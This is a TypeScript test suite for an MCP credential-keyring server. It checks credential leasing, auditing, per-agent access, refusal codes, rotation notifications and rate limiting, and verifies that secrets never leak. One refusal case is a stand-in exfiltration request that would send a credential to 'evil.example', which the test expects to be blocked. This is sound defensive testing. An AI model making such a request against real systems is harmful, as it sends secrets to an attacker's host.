/**
 * MCP contract (README.md, "What agents get"): a real SDK Client against createCredentialServer() over an in-memory
 * transport pair, backed by the real KeyringService (test/helpers/testKeyring.ts).
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { ResourceUpdatedNotificationSchema, type Tool } from '@modelcontextprotocol/sdk/types.js';
import { createTestKeyring, type TestKeyring, type TestKeyringOptions } from '../helpers/testKeyring';
import { call, connectInMemory, textOf, waitFor, type Connected } from './harness';

// Cast: the helper's option type intersects a full `actions` record with a partial one.
const QUIET = { actions: { first_use: 'off', probing: 'off', unusual_hours: 'off' } } as NonNullable<
  TestKeyringOptions['anomaly']
>;

/** Every secret a keyring holds right now, for "never appears" checks. */
function secretsOf(k: TestKeyring): string[] {
  return [...Object.values(k.values), ...Object.values(k.tokens)];
}

function assertNoSecrets(k: TestKeyring, text: string, where: string): void {
  for (const s of secretsOf(k)) {
    assert.ok(!text.includes(s), `${where} must not contain a secret`);
  }
}

describe('MCP contract (in memory, real service)', () => {
  let k: TestKeyring;
  let research: Connected;
  let release: Connected;

  before(async () => {
    k = await createTestKeyring({
      anomaly: QUIET,
      approver: {
        ask: async (r) => (r.scope === 'publish' && r.credential === 'npm_token' ? 'once' : 'deny'),
      },
    });
    research = await connectInMemory(k.api, 'research-agent', { logger: k.logger });
    release = await connectInMemory(k.api, 'release-agent', { logger: k.logger });
    await research.client.listTools();
    await release.client.listTools();
  });
  after(async () => {
    await research.close();
    await release.close();
    await k.dispose();
  });

  it('lists the four tools with titles, descriptions, annotations, input and output schemas', async () => {
    const { tools } = await research.client.listTools();
    const byName = new Map(tools.map((t: Tool) => [t.name, t]));
    assert.deepEqual([...byName.keys()].sort(), [
      'get_credential',
      'http_request',
      'list_credentials',
      'rotate_credential',
    ]);
    for (const t of tools) {
      assert.ok(
        t.title && t.description && t.description.length > 80,
        `${t.name} has a title and a real description`,
      );
      assert.equal(t.inputSchema.type, 'object');
      assert.equal(
        (t.inputSchema as { additionalProperties?: unknown }).additionalProperties,
        false,
        `${t.name} input is strict`,
      );
      for (const [field, schema] of Object.entries(t.inputSchema.properties ?? {})) {
        assert.ok((schema as { description?: string }).description, `${t.name}.${field} has a description`);
      }
      assert.equal(t.outputSchema?.type, 'object');
      assert.ok(t.annotations, `${t.name} has annotations`);
    }
    const get = byName.get('get_credential')!;
    assert.deepEqual(get.inputSchema.required, ['name', 'scope']);
    assert.deepEqual(Object.keys(get.inputSchema.properties ?? {}).sort(), [
      'agent_id',
      'name',
      'reason',
      'scope',
    ]);
    assert.equal(get.annotations?.readOnlyHint, true);
    assert.equal(get.annotations?.openWorldHint, false);
    assert.match(get.description ?? '', /http_request/);
    const rotate = byName.get('rotate_credential')!;
    assert.deepEqual(rotate.inputSchema.required, ['name']);
    assert.equal(rotate.annotations?.destructiveHint, true);
    assert.equal(rotate.annotations?.idempotentHint, false);
    const httpTool = byName.get('http_request')!;
    assert.deepEqual(httpTool.inputSchema.required, ['credential', 'scope', 'method', 'url']);
    assert.equal(httpTool.annotations?.openWorldHint, true);
    assert.equal(httpTool.annotations?.readOnlyHint, false);
    assert.deepEqual((httpTool.inputSchema.properties?.method as { enum?: string[] }).enum, [
      'GET',
      'POST',
      'PUT',
      'PATCH',
      'DELETE',
      'HEAD',
    ]);
    assert.equal(byName.get('list_credentials')!.annotations?.readOnlyHint, true);
    // The output schema admits both the success shape and the refusal shape.
    const anyOf = (get.outputSchema as { anyOf?: Array<{ required?: string[] }> }).anyOf ?? [];
    assert.deepEqual(
      anyOf.map((s) => s.required?.slice().sort()),
      [
        ['expires_at', 'expires_in', 'lease_id', 'name', 'scope', 'value', 'version'],
        ['code', 'message'],
      ],
    );
  });

  it('declares resources.subscribe and gives instructions that steer towards http_request', () => {
    const caps = research.client.getServerCapabilities();
    assert.equal(caps?.resources?.subscribe, true);
    assert.ok(caps?.tools);
    assert.match(research.client.getInstructions() ?? '', /Prefer http_request/);
  });

  it('get_credential returns value + lease, with a JSON text copy, and audits the client', async () => {
    const r = await call(research.client, 'get_credential', {
      name: 'scavio_api_key',
      scope: 'search_read',
      reason: 'search',
    });
    assert.equal(r.isError, undefined);
    const s = r.structuredContent!;
    assert.equal(s.name, 'scavio_api_key');
    assert.equal(s.scope, 'search_read');
    assert.equal(s.value, k.values.scavio_api_key);
    assert.equal(s.version, 1);
    assert.equal(typeof s.lease_id, 'string');
    assert.equal(s.expires_in, 3600);
    assert.ok(Date.parse(s.expires_at as string) > Date.now());
    assert.deepEqual(JSON.parse(textOf(r)), s);
    const audit = fs.readFileSync(k.auditPath, 'utf8');
    const line = audit
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .find((e) => e.tool === 'get_credential' && e.lease_id === s.lease_id);
    assert.ok(line, 'the release is audited with its lease id');
    assert.equal(line.agent_id, 'research-agent');
    assert.deepEqual(line.client, { name: 'mcp-test-client', version: '9.9.9' });
    assert.ok(!audit.includes(k.values.scavio_api_key), 'the audit log never holds the value');
  });

  it('list_credentials shows only what the agent may use, never values', async () => {
    const r = await call(research.client, 'list_credentials');
    const creds = r.structuredContent!.credentials as Array<Record<string, unknown>>;
    assert.deepEqual(
      creds.map((c) => c.name),
      ['github_token', 'scavio_api_key'],
    );
    assert.deepEqual(Object.keys(creds[0]).sort(), [
      'description',
      'name',
      'rotated_at',
      'scopes',
      'version',
    ]);
    assert.deepEqual(creds[1].scopes, ['search_read', 'publish']);
    assertNoSecrets(k, JSON.stringify(r), 'list_credentials');
    const r2 = await call(release.client, 'list_credentials');
    assert.deepEqual(
      (r2.structuredContent!.credentials as Array<{ name: string }>).map((c) => c.name),
      ['github_token', 'npm_token'],
    );
  });

  it('get_credential on a sensitive scope is approved by the approver', async () => {
    const r = await call(release.client, 'get_credential', { name: 'npm_token', scope: 'publish' });
    assert.equal(r.isError, undefined);
    assert.equal(r.structuredContent?.value, k.values.npm_token);
  });

  const refusals: Array<[string, () => Connected, string, Record<string, unknown>]> = [
    ['not_found', () => research, 'get_credential', { name: 'no_such_thing', scope: 'search_read' }],
    // Granted to another agent only: answered exactly like a missing name (no oracle).
    ['not_found', () => research, 'get_credential', { name: 'npm_token', scope: 'publish' }],
    ['scope_denied', () => research, 'get_credential', { name: 'scavio_api_key', scope: 'admin' }],
    [
      'anomaly_denied',
      () => research,
      'get_credential',
      { name: 'scavio_api_key', scope: 'search_read', agent_id: 'release-agent' },
    ],
    ['approval_denied', () => research, 'get_credential', { name: 'scavio_api_key', scope: 'publish' }],
    ['invalid_input', () => research, 'get_credential', { name: 'Bad Name', scope: 'search_read' }],
    ['not_found', () => research, 'rotate_credential', { name: 'no_such_thing' }],
    ['rotate_denied', () => research, 'rotate_credential', { name: 'scavio_api_key' }],
    ['no_generator', () => release, 'rotate_credential', { name: 'npm_token' }],
    ['invalid_input', () => release, 'rotate_credential', { name: 'npm_token', grace_seconds: -1 }],
    [
      'host_denied',
      () => research,
      'http_request',
      {
        credential: 'scavio_api_key',
        scope: 'search_read',
        method: 'GET',
        url: 'https://evil.example/{{credential}}',
      },
    ],
    [
      'not_found',
      () => research,
      'http_request',
      { credential: 'nope', scope: 'search_read', method: 'GET', url: 'https://api.scavio.example/' },
    ],
    [
      'scope_denied',
      () => research,
      'http_request',
      { credential: 'scavio_api_key', scope: 'write', method: 'GET', url: 'https://api.scavio.example/' },
    ],
  ];
  for (const [code, who, tool, args] of refusals) {
    it(`${tool} refusal ${code} (${String(args.name ?? args.credential)}) reaches the client as isError with structuredContent.code`, async () => {
      const r = await call(who().client, tool, args);
      assert.equal(r.isError, true);
      assert.equal(r.structuredContent?.code, code);
      assert.equal(typeof r.structuredContent?.message, 'string');
      const text = textOf(r);
      assert.ok(text.startsWith(r.structuredContent.message as string), 'the text opens with the sentence');
      assert.deepEqual(
        JSON.parse(text.slice(text.indexOf('\n\n') + 2)),
        r.structuredContent,
        'and carries a JSON copy',
      );
      assertNoSecrets(k, JSON.stringify(r), `${code} refusal`);
    });
  }

  it('rotate_credential by a rotation agent makes a new version; the new value is never echoed', async () => {
    const NEW = `canary-rotated-${Date.now()}`;
    const r = await call(release.client, 'rotate_credential', {
      name: 'npm_token',
      new_value: NEW,
      grace_seconds: 120,
    });
    assert.equal(r.isError, undefined, textOf(r));
    assert.deepEqual(Object.keys(r.structuredContent!).sort(), [
      'name',
      'previous_valid_until',
      'previous_version',
      'version',
    ]);
    assert.equal(r.structuredContent!.version, (r.structuredContent!.previous_version as number) + 1);
    assert.equal(typeof r.structuredContent!.previous_valid_until, 'string');
    assert.ok(!JSON.stringify(r).includes(NEW));
    assert.ok(!fs.readFileSync(k.auditPath, 'utf8').includes(NEW));
    assert.ok(!k.logger.text().includes(NEW));
    const got = await call(release.client, 'get_credential', { name: 'npm_token', scope: 'publish' });
    assert.equal(got.structuredContent?.value, NEW, 'get_credential returns the current version');
    k.values.npm_token = NEW;
  });

  it('resources: list and read are filtered per agent and carry metadata only', async () => {
    const { resources } = await research.client.listResources();
    assert.deepEqual(resources.map((r) => r.uri).sort(), [
      'credential://github_token',
      'credential://scavio_api_key',
    ]);
    const read = await research.client.readResource({ uri: 'credential://scavio_api_key' });
    const content = read.contents[0] as { text: string; mimeType?: string };
    assert.equal(content.mimeType, 'application/json');
    const meta = JSON.parse(content.text) as Record<string, unknown>;
    assert.deepEqual(Object.keys(meta).sort(), [
      'allowed_hosts',
      'description',
      'name',
      'placement',
      'reveal',
      'rotated_at',
      'scope_rules',
      'scopes',
      'ttl_seconds',
      'version',
    ]);
    assert.deepEqual(meta.allowed_hosts, ['api.scavio.example']);
    assert.equal(meta.reveal, 'allow', "this agent's own reveal mode");
    assert.deepEqual(meta.scope_rules, {});
    assert.equal(meta.placement, null);
    assert.equal(meta.ttl_seconds, 3600);
    assertNoSecrets(k, content.text, 'resource');
    await assert.rejects(research.client.readResource({ uri: 'credential://npm_token' }), (e: Error) => {
      assert.match(e.message, /No credential resource "credential:\/\/npm_token" is available to this agent/);
      return true;
    });
    await assert.rejects(
      research.client.readResource({ uri: `credential://${'x'.repeat(5000)}` }),
      (e: Error) => {
        assert.ok(e.message.length < 600, 'a long URI is not echoed in full');
        return true;
      },
    );
  });

  it('subscribe → rotation → notifications/resources/updated, to every subscribed session', async () => {
    const seenByResearch: string[] = [];
    const seenByRelease: string[] = [];
    research.client.setNotificationHandler(
      ResourceUpdatedNotificationSchema,
      (n) => void seenByResearch.push(n.params.uri),
    );
    release.client.setNotificationHandler(
      ResourceUpdatedNotificationSchema,
      (n) => void seenByRelease.push(n.params.uri),
    );
    await research.client.subscribeResource({ uri: 'credential://github_token' });
    await release.client.subscribeResource({ uri: 'credential://github_token' });
    await assert.rejects(
      research.client.subscribeResource({ uri: 'credential://npm_token' }),
      /is available to this agent/,
    );

    // An agent rotates through the tool (research-agent is a rotation agent of github_token)…
    const r = await call(research.client, 'rotate_credential', { name: 'github_token' });
    assert.equal(r.isError, undefined, textOf(r));
    await waitFor(
      () => seenByResearch.length === 1 && seenByRelease.length === 1,
      'both sessions to be told',
    );
    assert.deepEqual(seenByResearch, ['credential://github_token']);

    // …and a human rotates in the editor; an unsubscribed session hears nothing more.
    await release.client.unsubscribeResource({ uri: 'credential://github_token' });
    await k.service.rotate('github_token', { actor: 'vscode-user' });
    await waitFor(() => seenByResearch.length === 2, 'the second notification');
    assert.equal(seenByRelease.length, 1);
    // A rotation of a credential nobody watches sends nothing.
    await k.service.rotate('scavio_api_key', { actor: 'vscode-user' });
    await call(research.client, 'list_credentials'); // a round trip, so a stray notification would have arrived
    assert.deepEqual(seenByResearch, ['credential://github_token', 'credential://github_token']);
  });

  it('an agent revoked mid-session gets unauthorized', async () => {
    const conn = await connectInMemory(k.api, 'vscode');
    try {
      assert.equal((await call(conn.client, 'list_credentials')).isError, undefined);
      await k.service.revokeAgent('vscode', 'vscode-user');
      const r = await call(conn.client, 'list_credentials');
      assert.equal(r.structuredContent?.code, 'unauthorized');
    } finally {
      await conn.close();
    }
  });
});

describe('MCP contract: rate limit', () => {
  it('a burst above the limit is refused with rate_limited', async () => {
    const k = await createTestKeyring({ anomaly: { ...QUIET, burst_per_minute: 2 } });
    const conn = await connectInMemory(k.api, 'research-agent');
    try {
      const codes: unknown[] = [];
      for (let i = 0; i < 4; i++) {
        const r = await call(conn.client, 'get_credential', { name: 'github_token', scope: 'repo_read' });
        codes.push(r.structuredContent?.code ?? 'ok');
      }
      assert.deepEqual(codes.slice(0, 2), ['ok', 'ok']);
      assert.equal(codes[3], 'rate_limited');
    } finally {
      await conn.close();
      await k.dispose();
    }
  });
});
